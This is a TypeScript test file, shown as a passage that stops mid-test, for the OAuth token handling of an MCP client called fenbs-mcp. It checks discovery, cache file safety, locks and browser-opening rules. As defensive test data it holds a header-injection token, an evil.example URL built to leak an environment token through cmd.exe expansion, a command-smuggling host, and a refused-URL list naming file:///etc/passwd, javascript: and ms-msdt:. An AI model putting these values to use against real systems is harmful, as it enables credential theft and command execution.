// The OAuth parts on their own: discovery URLs and challenges, the cache, the lock, the opener, the options, the credential's clock.

import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import {
  chmodSync,
  chownSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { afterEach, describe, expect, it } from 'vitest';
import {
  authorizationServerMetadataUrls,
  discover,
  isResourceFor,
  parseBearerChallenge,
  resourceMetadataUrls,
} from '../../../../src/credentials/oauth/discovery.js';
import { MAX_CALLBACK_HEAD_BYTES, startCallbackServer } from '../../../../src/credentials/oauth/callback-server.js';
import { BROWSER_URL_VARIABLE, openableUrlProblem, openBrowser, openerCommand } from '../../../../src/credentials/oauth/browser.js';
import { withFileLock, LockTimeoutError } from '../../../../src/credentials/oauth/file-lock.js';
import { MAX_EXPIRES_IN_SECONDS, obtainClient, refreshTokens, signIn, toStoredTokens, type FlowDeps } from '../../../../src/credentials/oauth/flow.js';
import { createOAuthHttp, oauthUrlProblem, RefusedOAuthUrlError } from '../../../../src/credentials/oauth/http.js';
import { OAuthCredential, refreshAt, cachedState, SIGN_IN_QUIET_MS } from '../../../../src/credentials/oauth/oauth-credential.js';
import { LOGIN_TIMEOUT_MS, parseOAuthSettings } from '../../../../src/config/oauth-settings.js';
import { readPrivateFile } from '../../../../src/credentials/oauth/private-file.js';
import { cacheDirectory, MAX_CACHE_FILE_BYTES, MAX_CLIENT_BINDINGS, MAX_TOKEN_CHARS, TokenStore } from '../../../../src/credentials/oauth/token-store.js';
import { Agent, type Dispatcher } from '../../../../src/http/undici-parts.js';
import { startOAuthSetup } from '../../../helpers/oauth-servers.js';
import { UsageError } from '../../../../src/core/errors.js';
import { createDispatcher } from '../../../../src/http/dispatcher.js';

const cleanups: (() => Promise<unknown> | void)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

function tempDir(): string {
  const dir = mkdtempSync(join(tmpdir(), 'fenbs-oauth-parts-'));
  cleanups.push(() => rmSync(dir, { recursive: true, force: true, maxRetries: 10, retryDelay: 50 }));
  return dir;
}

const silent = pino({ level: 'silent' });
const dispatcher = () => {
  const d = createDispatcher({ connectTimeoutMs: 5000, env: {} });
  cleanups.push(() => d.close());
  return d;
};

async function serve(route: (req: IncomingMessage, res: ServerResponse, origin: string) => void): Promise<string> {
  const server = createServer((req, res) => route(req, res, origin));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  cleanups.push(() => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))));
  return origin;
}

describe('discovery', () => {
  it('tries the path-aware protected-resource URL first, then the root (RFC 9728 §3)', () => {
    expect(resourceMetadataUrls(new URL('https://a.example/v1/mcp')).map(String)).toEqual([
      'https://a.example/.well-known/oauth-protected-resource/v1/mcp',
      'https://a.example/.well-known/oauth-protected-resource',
    ]);
    expect(resourceMetadataUrls(new URL('https://a.example/')).map(String)).toEqual(['https://a.example/.well-known/oauth-protected-resource']);
  });

  it('orders authorization-server metadata URLs as the MCP spec does: RFC 8414, then OIDC inserted, then OIDC appended', () => {
    expect(authorizationServerMetadataUrls(new URL('https://as.example/tenant1')).map(String)).toEqual([
      'https://as.example/.well-known/oauth-authorization-server/tenant1',
      'https://as.example/.well-known/openid-configuration/tenant1',
      'https://as.example/tenant1/.well-known/openid-configuration',
    ]);
    expect(authorizationServerMetadataUrls(new URL('https://as.example')).map(String)).toEqual([
      'https://as.example/.well-known/oauth-authorization-server',
      'https://as.example/.well-known/openid-configuration',
    ]);
  });

  it('reads resource_metadata, scope and error from a Bearer challenge and ignores other schemes', async () => {
    expect(
      await parseBearerChallenge(
        'Basic realm="x", Bearer error="insufficient_scope", scope="a b", resource_metadata="https://r.example/.well-known/oauth-protected-resource"',
      ),
    ).toEqual({
      bearer: true,
      error: 'insufficient_scope',
      scope: 'a b',
      resourceMetadata: new URL('https://r.example/.well-known/oauth-protected-resource'),
    });
    expect((await parseBearerChallenge('Basic realm="x"')).bearer).toBe(false);
    expect((await parseBearerChallenge(undefined)).bearer).toBe(false);
  });

  it('accepts a resource that is the server URL or a path above it on the same origin, nothing else', () => {
    const server = new URL('https://a.example/v1/mcp');
    expect(isResourceFor(new URL('https://a.example/v1/mcp'), server)).toBe(true);
    expect(isResourceFor(new URL('https://a.example/'), server)).toBe(true);
    expect(isResourceFor(new URL('https://a.example/v2'), server)).toBe(false);
    expect(isResourceFor(new URL('https://b.example/v1/mcp'), server)).toBe(false);
  });

  it('refuses an authorization server whose metadata has no code_challenge_methods_supported at all', async () => {
    const origin = await serve((req, res, origin) => {
      const body =
        req.url === '/.well-known/oauth-protected-resource/mcp'
          ? { resource: `${origin}/mcp`, authorization_servers: [origin] }
          : req.url === '/.well-known/oauth-authorization-server'
            ? { issuer: origin, authorization_endpoint: `${origin}/auth`, token_endpoint: `${origin}/token` }
            : undefined;
      if (body === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    });
    const http = createOAuthHttp(dispatcher(), false);
    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/does not advertise PKCE with S256/),
    });
  });

  it('refuses an authorization server that does not advertise PKCE S256', async () => {
    const origin = await serve((req, res, origin) => {
      const body =
        req.url === '/.well-known/oauth-protected-resource/mcp'
          ? { resource: `${origin}/mcp`, authorization_servers: [origin] }
          : req.url === '/.well-known/oauth-authorization-server'
            ? { issuer: origin, authorization_endpoint: `${origin}/auth`, token_endpoint: `${origin}/token`, code_challenge_methods_supported: ['plain'] }
            : undefined;
      if (body === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    });
    const http = createOAuthHttp(dispatcher(), false);
    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({
      code: 'AUTH_REQUIRED',
      message: expect.stringMatching(/S256/),
    });
  });

  it('says the server offers no sign-in when no protected-resource metadata exists', async () => {
    const origin = await serve((_req, res) => res.writeHead(404).end());
    const http = createOAuthHttp(dispatcher(), false);
    await expect(discover(http, new URL(`${origin}/mcp`), await parseBearerChallenge('Bearer'), AbortSignal.timeout(5000))).rejects.toMatchObject({
      message: expect.stringMatching(/no usable OAuth protected-resource metadata/),
    });
  });
});

describe('discovery against scripted metadata', () => {
  /** Serves the JSON `docs[path]` (a function of the origin), 404 otherwise. */
  async function metadata(docs: Record<string, (origin: string) => unknown>): Promise<string> {
    return serve((req, res, origin) => {
      const doc = docs[req.url ?? ''];
      if (doc === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc(origin)));
    });
  }
  const run = async (origin: string, header = 'Bearer') =>
    discover(createOAuthHttp(dispatcher(), false), new URL(`${origin}/mcp`), await parseBearerChallenge(header), AbortSignal.timeout(5000));

  it('follows resource_metadata from the challenge, and falls back from RFC 8414 to OpenID Connect discovery', async () => {
    const origin = await metadata({
      '/custom-prm': (o) => ({ resource: `${o}/`, authorization_servers: [`${o}/tenant`], scopes_supported: ['s1'] }),
      '/.well-known/openid-configuration/tenant': (o) => ({
        issuer: `${o}/tenant`,
        authorization_endpoint: `${o}/a`,
        token_endpoint: `${o}/t`,
        code_challenge_methods_supported: ['S256'],
      }),
    });
    const found = await run(origin, `Bearer resource_metadata="${origin}/custom-prm"`);
    expect(found).toMatchObject({ resource: new URL(`${origin}/`), scopesSupported: ['s1'], as: { issuer: `${origin}/tenant` } });
  });

  it('refuses metadata that lists no authorization server, or an authorization server without endpoints', async () => {
    const none = await metadata({ '/.well-known/oauth-protected-resource/mcp': (o) => ({ resource: `${o}/mcp`, authorization_servers: [] }) });
    await expect(run(none)).rejects.toMatchObject({ message: expect.stringMatching(/lists no authorization server/) });
    const bare = await metadata({
      '/.well-known/oauth-protected-resource': (o) => ({ resource: `${o}/mcp`, authorization_servers: [o] }),
      '/.well-known/oauth-authorization-server': (o) => ({ issuer: o }),
    });
    await expect(run(bare)).rejects.toMatchObject({
      message: expect.stringMatching(/lists no authorization_endpoint and token_endpoint, which the browser sign-in/),
    });
    const missing = await metadata({ '/.well-known/oauth-protected-resource/mcp': (o) => ({ resource: `${o}/mcp`, authorization_servers: [`${o}/nowhere`] }) });
    await expect(run(missing)).rejects.toMatchObject({ message: expect.stringMatching(/no authorization server metadata found/) });
  });

  it('names an authorization server that has no metadata cut to a line and masked, however long the URL a server named', async () => {
    const long = `/${'\u202e'.repeat(3)}${'x'.repeat(100_000)}`;
    const missing = await metadata({ '/.well-known/oauth-protected-resource/mcp': (o) => ({ resource: `${o}/mcp`, authorization_servers: [`${o}${long}`] }) });
    const error = (await run(missing).catch((failure: unknown) => failure)) as Error;
    expect(error.message).toMatch(/^no authorization server metadata found for http:\/\/127\.0\.0\.1:\d+\/%E2%80%AE/);
    expect(error.message.length).toBeLessThan(2_000);
    expect(
      [...error.message].filter((char) => char.charCodeAt(0) < 0x20 || (char.charCodeAt(0) >= 0x7f && char.charCodeAt(0) <= 0x9f) || char === '\u202e'),
    ).toEqual([]);
  });

  it('refuses protected-resource metadata for another resource', async () => {
    const origin = await metadata({
      '/.well-known/oauth-protected-resource/mcp': () => ({ resource: 'https://other.example/mcp', authorization_servers: ['https://as.example'] }),
    });
    await expect(run(origin)).rejects.toMatchObject({ message: expect.stringMatching(/no usable OAuth protected-resource metadata/) });
  });
});

describe('token cache', () => {
  it('lives in $FENBS_MCP_HOME, else $XDG_CONFIG_HOME/fenbs-mcp, else ~/.config/fenbs-mcp', () => {
    expect(cacheDirectory({ FENBS_MCP_HOME: '/h', XDG_CONFIG_HOME: '/x' }, '/home/u')).toBe('/h');
    expect(cacheDirectory({ XDG_CONFIG_HOME: '/x' }, '/home/u')).toBe(join('/x', 'fenbs-mcp'));
    expect(cacheDirectory({}, '/home/u')).toBe(join('/home/u', '.config', 'fenbs-mcp'));
  });

  it('reads a damaged entry as absent and keeps the well-formed ones', () => {
    const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
    store.write({
      server: 'https://a.example/mcp',
      issuer: 'https://as',
      issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'abcd', obtainedAt: 1 } }, bad: { resource: 3 } as never },
    });
    expect(Object.keys(store.read().issuers)).toEqual(['https://as']);
    writeFileSync(store.file, JSON.stringify({ version: 1, server: 'https://other/mcp', issuers: {} }));
    expect(store.read().issuers).toEqual({});
    expect(store.remove()).toBe(true);
    expect(store.remove()).toBe(false);
  });

  it('refreshes ahead by a quarter of a short lifetime and by at most 60 s of a long one', () => {
    expect(refreshAt({ accessToken: 'x', obtainedAt: 0, expiresAt: 40_000 })).toBe(30_000);
    expect(refreshAt({ accessToken: 'x', obtainedAt: 0, expiresAt: 3_600_000 })).toBe(3_540_000);
    expect(refreshAt({ accessToken: 'x', obtainedAt: 0 })).toBeUndefined();
  });

  it('tells doctor whether a cached token is valid, refreshable or expired', () => {
    const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
    expect(cachedState(store, 0)).toEqual({ kind: 'none' });
    const save = (tokens: object) =>
      store.write({
        server: 'https://a.example/mcp',
        issuer: 'https://as',
        issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens: { accessToken: 'x', obtainedAt: 0, ...tokens } } },
      });
    save({ expiresAt: 10 });
    expect(cachedState(store, 5)).toMatchObject({ kind: 'valid', expiresAt: 10 });
    expect(cachedState(store, 20)).toMatchObject({ kind: 'expired' });
    save({ expiresAt: 10, refreshToken: 'r' });
    expect(cachedState(store, 20)).toMatchObject({ kind: 'refreshable' });
  });

  it('keeps the newest refresh token, and the old one only when none came', () => {
    expect(
      toStoredTokens({ access_token: 'a2', token_type: 'bearer', expires_in: 10 }, 1000, { accessToken: 'a1', refreshToken: 'r1', obtainedAt: 0, scope: 's' }),
    ).toEqual({ accessToken: 'a2', refreshToken: 'r1', expiresAt: 11_000, obtainedAt: 1000, scope: 's' });
    expect(toStoredTokens({ access_token: 'a2', token_type: 'bearer', refresh_token: 'r2' }, 0).refreshToken).toBe('r2');
  });

  it('takes a lifetime of at most a year from expires_in, so a huge one still reads back from the cache', () => {
    const tokens = toStoredTokens({ access_token: 'a', token_type: 'bearer', expires_in: 1e306 }, 0);
    expect(tokens.expiresAt).toBe(MAX_EXPIRES_IN_SECONDS * 1000);
    const store = new TokenStore(tempDir(), new URL('https://a.example/mcp'));
    store.write({ server: 'https://a.example/mcp', issuer: 'https://as', issuers: { 'https://as': { resource: 'https://a.example/mcp', tokens } } });
    expect(store.read().issuers['https://as']?.tokens).toEqual(tokens);
  });

  const server = 'https://a.example/mcp';
  const entry = (tokens: object) => ({ resource: server, tokens: { accessToken: 'good-token', obtainedAt: 0, ...tokens } });

  it('reads a cached token no header can carry as absent, with a warning that does not show it, and the credential never sends it', () => {
    const dir = tempDir();
    const warnings: string[] = [];
    const store = new TokenStore(dir, new URL(server), (message) => warnings.push(message));
    store.write({
      server,
      issuer: 'https://as1',
      issuers: {
        'https://as1': entry({ accessToken: 'abc\r\nX-Injected:1' }),
        'https://as2': entry({ refreshToken: 'rt\nvalue' }),
        'https://as3': entry({ accessToken: 'x'.repeat(MAX_TOKEN_CHARS + 1) }),
        'https://as4': entry({}),
      },
    });
    const issuers = store.read().issuers;
    expect(Object.values(issuers).map((e) => e.tokens?.accessToken)).toEqual([undefined, undefined, undefined, 'good-token']);
    expect(warnings).toEqual([
      'the cached OAuth token from https://as1 is ignored: its access token contains a line break, so it cannot be sent in an Authorization header',
      'the cached OAuth token from https://as2 is ignored: its refresh token contains a line break, so it cannot be sent in an Authorization header',
      `the cached OAuth token from https://as3 is ignored: its access token contains more than ${MAX_TOKEN_CHARS} characters, so it cannot be sent in an Authorization header`,
    ]);
    // Told once, though the cache is read for every renewal.
    store.read();
    expect(warnings).toHaveLength(3);
    const credential = new OAuthCredential({
      url: new URL(server),
      allowHttp: false,
      settings: parseOAuthSettings({}, {}, () => ''),
      logger: silent,
      env: { FENBS_MCP_HOME: dir },
      registerSecret: () => undefined,
      dispatcher: dispatcher(),
      writeStderr: () => undefined,
    });
    expect(credential.authorization()).toBeUndefined();
  });

  it('reads an entry whose issuer, resource or redirect URI is no URL as absent (each would fail every request)', () => {
    const store = new TokenStore(tempDir(), new URL(server));
    store.write({
      server,
      issuers: {
        'not a url': entry({}),
        'https://as1': { resource: 'nowhere', tokens: { accessToken: 'a', obtainedAt: 0 } },
        'https://as2': { resource: server, client: { kind: 'registered', clientId: 'c', redirectUri: 'x' } },
      },
    });
    const issuers = store.read().issuers;
    expect(Object.keys(issuers)).toEqual(['https://as2']);
    expect(issuers['https://as2']?.client).toBeUndefined();
  });

  it('never reads the cache through a symbolic link, and replaces a link with a file of its own instead of writing through it', () => {
    const dir = tempDir();
    const warnings: string[] = [];
    const store = new TokenStore(dir, new URL(server), (message) => warnings.push(message));
    store.ensureDirectory();
    const victim = join(dir, 'victim.json');
    const planted = JSON.stringify({ version: 1, server, issuer: 'https://as', issuers: { 'https://as': entry({ accessToken: 'planted-token' }) } });
    writeFileSync(victim, planted);
    symlinkSync(victim, store.file);
    expect(store.read().issuers).toEqual({});
    expect(warnings).toEqual([`the OAuth token cache ${store.file} is not used: it is a symbolic link`]);
    store.write({ server, issuers: { 'https://as': entry({}) } });
    expect(readFileSync(victim, 'utf8')).toBe(planted);
    expect(lstatSync(store.file).isFile()).toBe(true);
    expect(statSync(store.file).mode & 0o777).toBe(0o600);
    expect(readdirSync(join(dir, 'oauth'))).toEqual([store.file.split('/').at(-1)]);
    expect(store.remove()).toBe(true);
  });

  it('reads nothing from a cache folder others can write, and writes nothing into it, saying why', () => {
    const dir = tempDir();
    const warnings: string[] = [];
    const store = new TokenStore(dir, new URL(server), (message) => warnings.push(message));
    store.write({ server, issuer: 'https://as', issuers: { 'https://as': entry({}) } });
    const before = readFileSync(store.file, 'utf8');
    chmodSync(join(dir, 'oauth'), 0o777);
    expect(store.read().issuers).toEqual({});
    expect(warnings).toEqual([
      `the OAuth token cache folder ${join(dir, 'oauth')} can be written by other users (mode 0777): fenbs-mcp neither reads tokens from it nor writes tokens into it`,
    ]);
    expect(() => store.write({ server, issuers: {} })).toThrow(/can be written by other users \(mode 0777\)/);
    expect(() => store.ensureDirectory()).toThrow(expect.objectContaining({ code: 'AUTH_REQUIRED', context: { hint: expect.stringMatching(/chmod 700/) } }));
    expect(readFileSync(store.file, 'utf8')).toBe(before);
    // Writable by the group only is refused too; 0755 is the user's own and is made private.
    chmodSync(join(dir, 'oauth'), 0o770);
    expect(store.folderProblem()?.message).toMatch(/mode 0770/);
    chmodSync(join(dir, 'oauth'), 0o755);
    store.ensureDirectory();
    expect(statSync(join(dir, 'oauth')).mode & 0o777).toBe(0o700);
  });

  it.skipIf(process.getuid?.() !== 0)('reads nothing from a cache folder or file another user owns (run as root, which can hand them over)', () => {
    const dir = tempDir();
    const warnings: string[] = [];
    const store = new TokenStore(dir, new URL(server), (message) => warnings.push(message));
    store.write({ server, issuer: 'https://as', issuers: { 'https://as': entry({}) } });
    chownSync(store.file, 65534, 65534);
    expect(store.read().issuers).toEqual({});
    expect(warnings.at(-1)).toBe(`the OAuth token cache ${store.file} is not used: it belongs to another user (uid 65534, not 0)`);
    chownSync(join(dir, 'oauth'), 65534, 65534);
    expect(() => store.write({ server, issuers: {} })).toThrow(
      `the OAuth token cache folder ${join(dir, 'oauth')} belongs to another user (uid 65534, not 0): fenbs-mcp neither reads tokens from it nor writes tokens into it`,
    );
    chownSync(join(dir, 'oauth'), 0, 0);
    chownSync(store.file, 0, 0);
    chmodSync(store.file, 0o622);
    expect(store.read().issuers).toEqual({});
    expect(warnings.at(-1)).toMatch(/can be written by other users \(mode 0622\)/);
  });

  it('reads no cache from something that is not a regular file, and names a folder it cannot examine', () => {
    const dir = tempDir();
    const warnings: string[] = [];
    const store = new TokenStore(dir, new URL(server), (message) => warnings.push(message));
    mkdirSync(store.file, { recursive: true });
    expect(store.read().issuers).toEqual({});
    expect(warnings).toEqual([`the OAuth token cache ${store.file} is not used: it is not a regular file`]);
    writeFileSync(join(dir, 'plain-file'), '');
    expect(new TokenStore(join(dir, 'plain-file'), new URL(server)).folderProblem()?.message).toMatch(/plain-file is not a folder/);
    expect(new TokenStore(join(dir, 'plain-file', 'below'), new URL(server)).folderProblem()?.message).toMatch(/below cannot be examined \(ENOTDIR/);
  });

  it.skipIf(process.platform !== 'linux')('stops reading a file that grew past its limit after its size was taken (a /proc file reports none)', () => {
    expect(() => readPrivateFile('/proc/self/status', 10)).toThrow('is larger than 10 bytes');
  });

  it('never writes a cache file larger than it would read back', () => {
    const store = new TokenStore(tempDir(), new URL(server));
    store.write({ server, issuers: { 'https://as': entry({}) } });
    const before = readFileSync(store.file, 'utf8');
    expect(() => store.write({ server, issuers: { 'https://as': entry({ scope: 's '.repeat(MAX_CACHE_FILE_BYTES) }) } })).toThrow(/larger than/);
    expect(readFileSync(store.file, 'utf8')).toBe(before);
  });

  it('reads a cache file larger than its limit, or one that is not JSON, as empty', () => {
    const warnings: string[] = [];
    const store = new TokenStore(tempDir(), new URL(server), (message) => warnings.push(message));
    store.ensureDirectory();
    writeFileSync(store.file, ' '.repeat(MAX_CACHE_FILE_BYTES + 1), { mode: 0o600 });
    expect(store.read().issuers).toEqual({});
    writeFileSync(store.file, '{ not json', { mode: 0o600 });
    expect(store.read().issuers).toEqual({});
    expect(warnings).toEqual([
      `the OAuth token cache ${store.file} is not used: it is larger than ${MAX_CACHE_FILE_BYTES} bytes`,
      `the OAuth token cache ${store.file} is not used: it is not valid JSON`,
    ]);
  });
});

describe('client bindings in the token cache', () => {
  it('keeps the newest binding of each client, at most MAX_CLIENT_BINDINGS, and drops a damaged one', () => {
    const home = tempDir();
    const server = 'https://a.example/mcp';
    const store = new TokenStore(home, new URL(server));
    for (let n = 0; n < MAX_CLIENT_BINDINGS + 4; n++) store.bindClient({ clientId: `client-${n}`, issuer: 'https://as.example' });
    store.bindClient({ clientId: 'client-10', issuer: 'https://moved.example' });
    const kept = store.read().clientBindings!;
    expect(kept).toHaveLength(MAX_CLIENT_BINDINGS);
    expect(kept[0]).toEqual({ clientId: 'client-4', issuer: 'https://as.example' });
    expect(kept.at(-1)).toEqual({ clientId: 'client-10', issuer: 'https://moved.example' });
    expect(kept.filter((binding) => binding.clientId === 'client-10')).toHaveLength(1);
    store.write({
      server,
      issuers: {},
      clientBindings: [
        { clientId: 'ok', issuer: 'https://as.example' },
        { clientId: '', issuer: 'https://as.example' },
        { clientId: 'x', issuer: 'not a url' },
        'junk' as never,
      ],
    });
    expect(store.read().clientBindings).toEqual([{ clientId: 'ok', issuer: 'https://as.example' }]);
  });
});

describe('cross-process lock', () => {
  it('takes over a lock whose holder is a process that no longer exists', async () => {
    const path = join(tempDir(), 'x.lock');
    writeFileSync(path, JSON.stringify({ pid: 2 ** 22 + 12345, host: (await import('node:os')).hostname(), at: Date.now(), nonce: 'old' }));
    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve('ran'))).toBe('ran');
  });

  it('gives up after its bounded wait while a live process holds the lock', async () => {
    const path = join(tempDir(), 'x.lock');
    writeFileSync(path, JSON.stringify({ pid: process.ppid, host: (await import('node:os')).hostname(), at: Date.now(), nonce: 'other' }));
    let told = false;
    await expect(
      withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000), onWait: () => (told = true) }, () => Promise.resolve()),
    ).rejects.toBeInstanceOf(LockTimeoutError);
    expect(told).toBe(true);
    // Not ours: left in place.
    expect(JSON.parse(readFileSync(path, 'utf8')).nonce).toBe('other');
  });
});

describe('cross-process lock against what else may lie at its path', () => {
  it('never follows, truncates or writes through a symbolic link at the lock path', async () => {
    const dir = tempDir();
    const victim = join(dir, 'victim');
    writeFileSync(victim, 'precious');
    const path = join(dir, 'x.lock');
    symlinkSync(victim, path);
    expect(
      await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve(lstatSync(path).isFile())),
    ).toBe(true);
    expect(readFileSync(victim, 'utf8')).toBe('precious');
    expect(readdirSync(dir)).toEqual(['victim']);
  });

  it('takes over a lock stamped far in the future, whose time would otherwise never pass', async () => {
    const path = join(tempDir(), 'x.lock');
    writeFileSync(path, JSON.stringify({ pid: process.ppid, host: (await import('node:os')).hostname(), at: Date.now() + 10 * 86_400_000, nonce: 'future' }));
    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve('ran'))).toBe('ran');
    // An unreadable lock file whose time is in the future is judged the same way.
    writeFileSync(path, 'garbage');
    const future = new Date(Date.now() + 86_400_000);
    utimesSync(path, future, future);
    expect(await withFileLock(path, { waitMs: 1000, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve('ran again'))).toBe(
      'ran again',
    );
  });

  it('waits for an unreadable lock file written just now (its writer may be between creating and filling it)', async () => {
    const path = join(tempDir(), 'x.lock');
    writeFileSync(path, '');
    await expect(withFileLock(path, { waitMs: 60, staleMs: 60_000, signal: AbortSignal.timeout(5000) }, () => Promise.resolve())).rejects.toBeInstanceOf(
      LockTimeoutError,
    );
    expect(readFileSync(path, 'utf8')).toBe('');
  });
});

describe('browser opener', () => {
  it('runs $BROWSER through the shell with the URL as one argument, else the system opener', () => {
    const url = 'https://as.example/auth?a=1&b=$(x)';
    expect(openerCommand(url, { BROWSER: 'firefox --new-window' }, 'linux')).toEqual({
      file: '/bin/sh',
      args: ['-c', 'firefox --new-window "$1"', 'fenbs-mcp-browser', url],
      env: {},
      windowsVerbatimArguments: false,
    });
    expect(openerCommand(url, {}, 'linux')).toMatchObject({ file: 'xdg-open', args: [url] });
    expect(openerCommand(url, {}, 'darwin')).toMatchObject({ file: 'open', args: [url] });
    expect(openerCommand(url, {}, 'win32')).toMatchObject({ file: 'rundll32', args: ['url.dll,FileProtocolHandler', url] });
  });

  it("hands the URL to cmd.exe in a variable, so a %NAME% in it never becomes the value of one of the user's variables", () => {
    // cmd.exe expands %NAME% inside quotes too: written into the line, this URL would carry FENBS_TOKEN.
    const url = 'https://evil.example/?t=%FENBS_TOKEN%&u=!FENBS_TOKEN!';
    const command = openerCommand(url, { BROWSER: '"C:\\Program Files\\Firefox\\firefox.exe" -new-window' }, 'win32');
    expect(command).toEqual({
      file: 'cmd.exe',
      args: ['/d', '/v:off', '/s', '/c', `""C:\\Program Files\\Firefox\\firefox.exe" -new-window "%${BROWSER_URL_VARIABLE}%""`],
      env: { [BROWSER_URL_VARIABLE]: url },
      windowsVerbatimArguments: true,
    });
    expect(command.args.join(' ')).not.toContain('FENBS_TOKEN');
  });

  it('opens only canonical https URLs, and http to this machine, without a user name', () => {
    for (const url of [
      'https://as.example/authorize?client_id=a&state=b',
      'https://xn--e1afmkfd.xn--p1ai/auth',
      'http://127.0.0.1:8080/authorize',
      'http://localhost/a',
      'http://[::1]:9/a',
    ])
      expect(openableUrlProblem(url), url).toBeUndefined();
    const refused: [string, RegExp][] = [
      ['file:///etc/passwd', /scheme is file:/],
      ['javascript:alert(1)', /scheme is javascript:/],
      ['data:text/html,<script>alert(1)</script>', /scheme is data:/],
      ['ms-msdt:/id PCWDiagnostic', /scheme is ms-msdt:/],
      ['vscode://ext/run', /scheme is vscode:/],
      ['http://evil.example/authorize', /http: to a host other than this machine/],
      ['http://127.0.0.1.evil.example/authorize', /http: to a host other than this machine/],
      ['https://fenbs.ai@evil.example/', /user name or password/],
      ['https://a:b@evil.example/', /user name or password/],
      ['HTTPS://AS.example/auth', /not written the way a browser would read it/],
      ['https://as.example/a b', /not written the way/],
      ['https://пример.рф/', /not written the way/],
      // WHATWG URL keeps a double quote in a host: it would end cmd.exe's quoting.
      ['https://a"&calc&".example/', /not written the way/],
      ['not a url', /not a URL/],
    ];
    for (const [url, reason] of refused) expect(openableUrlProblem(url), url).toMatch(reason);
  });

  it('opens plain http only to a loopback address or localhost itself, never to a *.localhost name the resolver may send elsewhere', () => {
    for (const url of [
      'http://127.0.0.1/authorize',
      'http://127.8.9.10:8080/authorize',
      'http://[::1]/authorize',
      'http://localhost/authorize',
      'http://localhost:3000/authorize',
    ])
      expect(openableUrlProblem(url), url).toBeUndefined();
    for (const url of [
      'http://evil.localhost/authorize',
      'http://127.0.0.1.localhost/authorize',
      'http://localhost./authorize',
      'http://[::ffff:127.0.0.1]/authorize',
      'http://0.0.0.0/authorize',
    ]) {
      expect(openableUrlProblem(url), url).toMatch(/http: to a host other than this machine/);
    }
    // Over https the name is the certificate's to vouch for, whatever it resolves to.
    expect(openableUrlProblem('https://evil.localhost/authorize')).toBeUndefined();
  });

  it('refuses, starting nothing, a URL that may not be opened, whoever hands it over', () => {
    const errors: string[] = [];
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'http://evil.example/']) {
      expect(() => openBrowser(url, { env: { BROWSER: 'true' }, platform: 'linux', onError: (message) => errors.push(message) }), url).toThrow(
        expect.objectContaining({ code: 'AUTH_REQUIRED', message: expect.stringMatching(/^refused to open .* in the browser: /) }),
      );
    }
    expect(errors).toEqual([]);
  });

  it('tells onError when the opener cannot be started, whether spawn throws or the program is missing', async () => {
    const told: string[] = [];
    // A NUL in the environment: spawn refuses it before any process starts.
    openBrowser('https://as.example/auth', { env: { BROWSER: 'true', BROKEN: 'a\0b' }, platform: 'linux', onError: (message) => told.push(message) });
    expect(told).toEqual([expect.stringMatching(/^could not start \/bin\/sh: /)]);
    // No `open` on this machine (darwin's opener, asked on Linux): the child's error event.
    const missing = await new Promise<string>((resolve) =>
      openBrowser('https://as.example/auth', { env: { PATH: '/nonexistent' }, platform: 'darwin', onError: resolve }),
    );
    expect(missing).toMatch(/^could not start open: .*ENOENT/);
  });
});

describe('the one rule for OAuth requests', () => {
  /** An Agent that connects every host name to 127.0.0.1 (real sockets), so a loopback server plays as.example. */
  function everyNameOnLoopback(): Dispatcher {
    type Lookup = (hostname: string, options: { all?: boolean }, callback: (...args: unknown[]) => void) => void;
    const lookup: Lookup = (_hostname, options, callback) =>
      options.all === true ? callback(null, [{ address: '127.0.0.1', family: 4 }]) : callback(null, '127.0.0.1', 4);
    const agent = new Agent({ connect: { lookup } } as never) as unknown as Dispatcher;
    cleanups.push(() => agent.close());
    return agent;
  }

  /** One loopback server that answers every host name; `hosts` records the Host header of each request. */
  async function anyHost(docs: (host: string, path: string, port: string) => unknown) {
    const hosts: string[] = [];
    const origin = await serve((req, res) => {
      const host = (req.headers.host ?? '').replace(/:\d+$/, '');
      hosts.push(host);
      const doc = docs(host, req.url ?? '', new URL(origin).port);
      if (doc === undefined) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc));
    });
    return { port: new URL(origin).port, hosts };
  }

  it('allows https, http to loopback, and other plain http only with --allow-http; nothing else', () => {
    expect(oauthUrlProblem(new URL('https://as.example/token'), false)).toBeUndefined();
    expect(oauthUrlProblem(new URL('http://127.0.0.1:9/token'), false)).toBeUndefined();
    expect(oauthUrlProblem(new URL('http://as.example/token'), false)).toMatch(/plain http:\/\/ to a host other than this machine/);
